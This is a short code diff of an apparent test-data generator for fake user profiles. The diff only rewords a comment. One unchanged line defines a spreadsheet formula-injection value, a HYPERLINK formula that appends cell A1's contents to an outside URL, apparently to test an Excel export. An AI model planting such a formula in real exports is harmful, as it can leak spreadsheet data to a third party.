@@ -32,7 +32,7 @@ const towns = "Innsbruck, Austria|Boulder, CO|Bergen|Zürich|Leeds, UK|São Paul
 const mottos = "Slow is smooth|Carpe diem, carpe coffee|Leave it better|One more bend…".split("|");
 const networks = "instagram|tiktok|youtube|strava|website|twitter|facebook|linkedin".split("|");
 
-/** A spreadsheet formula as an introduction, to demonstrate `export --excel`. */
+/** An introduction that is a spreadsheet formula, to demonstrate `export --excel`. */
 const formula = '=HYPERLINK("https://example.com/?x="&A1,"My shop")';
 
 export function createPerson(seed: number, index: number): Person {
